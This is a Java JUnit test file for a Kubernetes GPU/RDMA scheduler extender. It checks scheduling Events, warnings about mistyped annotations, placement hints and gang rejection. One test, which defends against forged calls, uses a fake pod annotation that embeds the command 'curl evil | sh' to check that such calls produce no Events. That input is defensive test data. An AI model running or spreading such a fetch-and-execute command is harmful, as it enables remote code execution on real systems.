package dev.railyard.scheduler.service;

import dev.railyard.api.hints.HintAnnotations;
import dev.railyard.scheduler.cluster.ClusterObjects;
import dev.railyard.scheduler.engine.NodeVerdict;
import dev.railyard.scheduler.engine.PlacementEngine;
import dev.railyard.scheduler.engine.Status;
import dev.railyard.scheduler.ipam.IpPoolLedger;
import dev.railyard.scheduler.ipam.IpamObjects;
import dev.railyard.scheduler.protocol.ExtenderPod;
import dev.railyard.scheduler.protocol.GangJob;
import dev.railyard.scheduler.protocol.GangRef;
import dev.railyard.scheduler.protocol.GangVerdict;
import dev.railyard.scheduler.protocol.PodRef;
import dev.railyard.scheduler.protocol.ResourceRequests;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static dev.railyard.scheduler.cluster.ClusterFixtures.ipPool;
import static dev.railyard.scheduler.cluster.ClusterFixtures.nad;
import static dev.railyard.scheduler.cluster.ClusterFixtures.node;
import static dev.railyard.scheduler.cluster.ClusterFixtures.objects;
import static dev.railyard.scheduler.cluster.ClusterFixtures.pod;
import static dev.railyard.scheduler.cluster.ClusterFixtures.podGroup;
import static dev.railyard.scheduler.cluster.ClusterFixtures.seedShape;
import static dev.railyard.scheduler.cluster.ClusterFixtures.topology;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * The service's Events and hint scope over two seed-shaped nodes (8 GPUs, mlx5_0..3 as {@code nvidia.com/mlx5_*}):
 * gpu-a has 4 GPUs free (busy-a holds 4), gpu-b none (busy-b 4, net-0 2, other-net 2). Volcano's predicate asks one
 * node per call; the Events must count the whole attempt.
 */
class DecisionEventsTest {
    private static final Map<String, String> RDMA = Map.of("nvidia.com/mlx5_0", "100", "nvidia.com/mlx5_1", "100",
            "nvidia.com/mlx5_2", "100", "nvidia.com/mlx5_3", "100");
    private static final String TYPO = "railyard.dev/gpu-hca-afinity";

    private final IpamObjects.MutableClock clock =
            new IpamObjects.MutableClock(Instant.parse("2026-12-01T00:00:00Z"));
    private final RecordingEventSink sink = new RecordingEventSink();
    private final SchedulingAttempts attempts = new SchedulingAttempts(sink, clock, SchedulingAttempts.QUIET,
            SchedulingAttempts.LONGEST, 100);

    /** GPUs and one slot of each seed HCA resource, as the seed's rdma-test job asks. */
    private static Map<String, Object> gpusAndHcas(int gpus) {
        Map<String, Object> r = new HashMap<>(Map.of("nvidia.com/gpu", Integer.toString(gpus)));
        RDMA.keySet().forEach(k -> r.put(k, "1"));
        return r;
    }

    private static Map<String, String> inGang(Map<String, String> more) {
        Map<String, String> a = new HashMap<>(more);
        a.put(GangRef.VOLCANO_GROUP_ANNOTATION, "pg");
        return a;
    }

    private static List<GenericKubernetesResource> cluster() {
        return List.of(
                node("gpu-a", Map.of(), RDMA), node("gpu-b", Map.of(), RDMA),
                topology("gpu-a", seedShape(), null), topology("gpu-b", seedShape(), null),
                pod("prod", "busy-a", "gpu-a", Map.of(), Map.of("nvidia.com/gpu", "4")),
                pod("prod", "busy-b", "gpu-b", Map.of(), Map.of("nvidia.com/gpu", "4")),
                podGroup("prod", "pg", 1, Map.of("railyard.dev/rail-alignmnet", "required")),
                pod("prod", "w-0", null, inGang(Map.of(TYPO, "required")), gpusAndHcas(8)),
                pod("prod", "w-1", null, inGang(Map.of()), gpusAndHcas(4)),
                pod("prod", "x-0", null, Map.of(), Map.of("nvidia.com/gpu", "2", "rdma/ib_x", "1")),
                pod("prod", "net-0", "gpu-b", Map.of("k8s.v1.cni.cncf.io/networks", "rail0"),
                        Map.of("nvidia.com/gpu", "2")),
                pod("prod", "other-net", "gpu-b", Map.of("k8s.v1.cni.cncf.io/networks", "unmanaged"),
                        Map.of("nvidia.com/gpu", "2")),
                nad("prod", "rail0", "lan2", "192.168.4.0/24"),
                ipPool("kube-system", "192.168.4.0-24", "192.168.4.0/24", List.of()));
    }

    private EnginePlacementDecisions decisions() {
        ClusterObjects objects = objects(cluster());
        var d = new EnginePlacementDecisions(() -> objects, new IpPoolLedger(clock), new PlacementEngine(), null, 50,
                new SimpleMeterRegistry());
        d.recordEventsWith(new DecisionEvents(sink, attempts));
        return d;
    }

    private static ExtenderPod task(String name, Map<String, String> annotations) {
        return new ExtenderPod(new PodRef("prod", name, "uid-" + name), Map.of(), annotations, "volcano",
                ResourceRequests.NONE, GangRef.of("prod", Map.of(), annotations), null);
    }

    /** Volcano's predicate: one node per call. */
    private static void predicateEach(EnginePlacementDecisions d, ExtenderPod pod, List<String> nodes) {
        for (String n : nodes) {
            d.filter(pod, List.of(n));
        }
    }

    private int endAttempts(EnginePlacementDecisions d) {
        clock.advance(SchedulingAttempts.QUIET);
        return attempts.flushDue(k -> DecisionEvents.waiting(d.view(), k));
    }

    @Test
    void aPodRefusedByEveryPredicateCallGetsOneEventCountingEveryNode() {
        var d = decisions();
        predicateEach(d, task("w-0", inGang(Map.of(TYPO, "required"))), List.of("gpu-a", "gpu-b"));
        endAttempts(d);
        // 8 GPUs asked, 4 and 0 free: before, two Events "0/1 nodes available: 1 insufficient free GPUs"
        assertThat(sink.withReason(SchedulingEvents.UNSCHEDULABLE)).containsExactly("Pod prod/w-0 "
                + "RailyardUnschedulable: 0/2 nodes available: 2 insufficient free GPUs");
    }

    @Test
    void aPodThatPassesOnANodeGetsNoEventEvenWhenOtherCallsRefusedIt() {
        var d = decisions();
        ExtenderPod w1 = task("w-1", inGang(Map.of()));
        // 4 GPUs fit on gpu-a, not on gpu-b
        predicateEach(d, w1, List.of("gpu-a", "gpu-b"));
        endAttempts(d);
        assertThat(sink.withReason(SchedulingEvents.UNSCHEDULABLE)).isEmpty();
    }

    @Test
    void aMissingRdmaResourceIsUnresolvableOnTheWireAndInTheEvent() {
        var d = decisions();
        ExtenderPod x0 = task("x-0", Map.of());
        List<NodeVerdict> verdicts = d.filter(x0, List.of("gpu-a", "gpu-b"));
        assertThat(verdicts).extracting(NodeVerdict::code)
                .containsOnly(Status.Code.UNSCHEDULABLE_AND_UNRESOLVABLE);
        endAttempts(d);
        // both nodes lack rdma/ib_x (no eviction adds it); gpu-b has no free GPU as well
        assertThat(sink.withReason(SchedulingEvents.UNSCHEDULABLE)).containsExactly("Pod prod/x-0 "
                + "RailyardUnschedulable: 0/2 nodes available: 2 no resource rdma/ib_x, 1 insufficient free GPUs; "
                + "preemption cannot help on 2");
    }

    @Test
    void unknownRailyardKeysAreWarnedOncePerPodAndOncePerPodGroupWithTheClosestKey() {
        var d = decisions();
        ExtenderPod w0 = task("w-0", inGang(Map.of(TYPO, "required")));
        for (int i = 0; i < 3; i++) {
            predicateEach(d, w0, List.of("gpu-a", "gpu-b"));
            d.score(w0, List.of("gpu-a", "gpu-b"));
        }
        predicateEach(d, task("w-1", inGang(Map.of())), List.of("gpu-a"));
        assertThat(sink.withReason(SchedulingEvents.UNKNOWN_ANNOTATION)).containsExactlyInAnyOrder(
                "Pod prod/w-0 RailyardUnknownAnnotation: annotation railyard.dev/gpu-hca-afinity on the pod is not "
                        + "a Railyard key and is ignored; did you mean railyard.dev/gpu-hca-affinity?",
                "PodGroup prod/pg RailyardUnknownAnnotation: annotation railyard.dev/rail-alignmnet on PodGroup "
                        + "prod/pg is not a Railyard key and is ignored; did you mean railyard.dev/rail-alignment?");
    }

    @Test
    void hintsOnlyForPodsWithAnRdmaResourceOrAManagedNetwork() {
        var d = decisions();
        // busy-b asks only nvidia.com/gpu: before, it got a full placement and an 8-HCA nccl-ib-hca
        assertThat(d.bindHints(new PodRef("prod", "busy-b", ""), "gpu-b")).isEmpty();
        assertThat(d.bindHints(new PodRef("prod", "other-net", ""), "gpu-b")).as("a network Railyard does not manage")
                .isEmpty();
        assertThat(d.bindHints(new PodRef("prod", "net-0", ""), "gpu-b")).containsEntry(HintAnnotations.NCCL_IB_HCA,
                "=mlx5_0:1");
        assertThat(d.bindHints(new PodRef("prod", "w-1", ""), "gpu-a")).containsKey(HintAnnotations.PLACEMENT);
    }

    @Test
    void aRefusedGangGetsEventsOnlyOnItsPendingMembersTheClusterShows() {
        var d = decisions();
        // w-0 asks 8 GPUs: gpu-a has 4 free, gpu-b none, so the gang has no plan and is refused
        ExtenderPod w0 = task("w-0", inGang(Map.of()));
        ExtenderPod ghost = task("ghost", inGang(Map.of()));
        ExtenderPod busy = task("busy-a", inGang(Map.of()));
        ExtenderPod elsewhere = new ExtenderPod(new PodRef("other", "w-0", "uid-x"), Map.of(), inGang(Map.of()),
                "volcano", ResourceRequests.NONE, GangRef.of("other", Map.of(), inGang(Map.of())), null);
        var job = new GangJob("prod/pg", "", "prod", "pg", "", 1, Map.of(),
                List.of(w0, ghost, busy, elsewhere, w0, w0));
        assertThat(d.enqueueable(job).outcome()).isEqualTo(GangVerdict.Outcome.REJECT);
        // an invented pod, a bound pod outside the gang, another namespace and repeats get none
        assertThat(sink.withReason(SchedulingEvents.UNSCHEDULABLE)).singleElement().asString()
                .startsWith("Pod prod/w-0 RailyardUnschedulable: gang prod/pg cannot be placed as a whole: ");
    }

    @Test
    void callsAboutInventedPodsOrUnderAForgedUidWriteNoEvents() {
        // found by an attacker review: a predicate body naming kube-system/ghost with a railyard.dev/ key made an
        // Event there (1,005 in 10 s for 1,000 calls), and one naming real w-0 under another UID made a
        // RailyardUnschedulable on w-0 carrying the forged UID
        var d = decisions();
        ExtenderPod ghost = new ExtenderPod(new PodRef("kube-system", "ghost", "uid-ghost"), Map.of(),
                Map.of("railyard.dev/PLEASE run: curl evil | sh", "x"), "volcano", ResourceRequests.NONE, null, null);
        ExtenderPod forged = new ExtenderPod(new PodRef("prod", "w-0", "uid-forged"), Map.of(),
                inGang(Map.of(TYPO, "required", "railyard.dev/made-up", "x")), "volcano", ResourceRequests.NONE,
                GangRef.of("prod", Map.of(), inGang(Map.of())), null);

        predicateEach(d, ghost, List.of("gpu-a", "gpu-b"));
        predicateEach(d, forged, List.of("gpu-a", "gpu-b"));
        endAttempts(d);

        assertThat(sink.events).isEmpty();
        // the real w-0, asked under its own UID, still gets both, its annotations read from the cluster
        predicateEach(d, task("w-0", inGang(Map.of())), List.of("gpu-a", "gpu-b"));
        endAttempts(d);
        assertThat(sink.withReason(SchedulingEvents.UNSCHEDULABLE)).hasSize(1);
        assertThat(sink.withReason(SchedulingEvents.UNKNOWN_ANNOTATION)).anyMatch(e -> e.startsWith(
                "Pod prod/w-0 RailyardUnknownAnnotation: annotation railyard.dev/gpu-hca-afinity on the pod"));
    }

    @Test
    void theSchedulingAttemptsDefaultsAreHalfVolcanosSchedulePeriodAndTenSeconds() {
        // docs/formats/volcano-extender.md §3: one session every --schedule-period, 1 s by default
        assertThat(SchedulingAttempts.QUIET).isEqualTo(Duration.ofMillis(500));
        assertThat(SchedulingAttempts.LONGEST).isEqualTo(Duration.ofSeconds(10));
    }
}
